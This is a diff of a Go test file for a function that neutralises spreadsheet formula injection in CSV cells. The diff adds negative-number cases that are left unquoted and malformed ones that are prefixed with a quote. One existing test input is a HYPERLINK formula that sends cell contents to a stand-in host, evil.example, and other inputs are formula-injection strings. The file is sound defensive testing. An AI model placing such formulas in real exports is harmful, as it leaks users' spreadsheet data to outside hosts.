@@ -13,6 +13,14 @@ func TestCSVCellNeutralisesFormulas(t *testing.T) {
 		{`=HYPERLINK("http://evil.example/"&A2,"Klik")`, `'=HYPERLINK("http://evil.example/"&A2,"Klik")`},
 		{"+31 6 1234", "'+31 6 1234"},
 		{"-2+3", "'-2+3"},
+		{"-123.45", "-123.45"},
+		{"-123,45", "-123,45"},
+		{"-1", "-1"},
+		{"-", "'-"},
+		{"-1.", "'-1."},
+		{"-.5", "'-.5"},
+		{"-1.2.3", "'-1.2.3"},
+		{"-1e5", "'-1e5"},
 		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
 		{"\t=1+1", "'\t=1+1"},
 		{"\r=1+1", "'\r=1+1"},
@@ -32,14 +40,14 @@ func TestCSVCellNeutralisesFormulas(t *testing.T) {
 // CSVCell, and the result reads back as the same number of cells.
 func TestWriteCSVNeutralisesEveryCell(t *testing.T) {
 	var buf bytes.Buffer
-	if err := WriteCSV(&buf, []string{"=h", "b"}, [][]string{{"@x", "y"}, {"1", "-1"}}); err != nil {
+	if err := WriteCSV(&buf, []string{"=h", "b"}, [][]string{{"@x", "y"}, {"1", "-1"}, {"-1+1", "2"}}); err != nil {
 		t.Fatal(err)
 	}
 	got, err := csv.NewReader(&buf).ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := [][]string{{"'=h", "b"}, {"'@x", "y"}, {"1", "'-1"}}
+	want := [][]string{{"'=h", "b"}, {"'@x", "y"}, {"1", "-1"}, {"'-1+1", "2"}}
 	for i := range want {
 		for j := range want[i] {
 			if got[i][j] != want[i][j] {
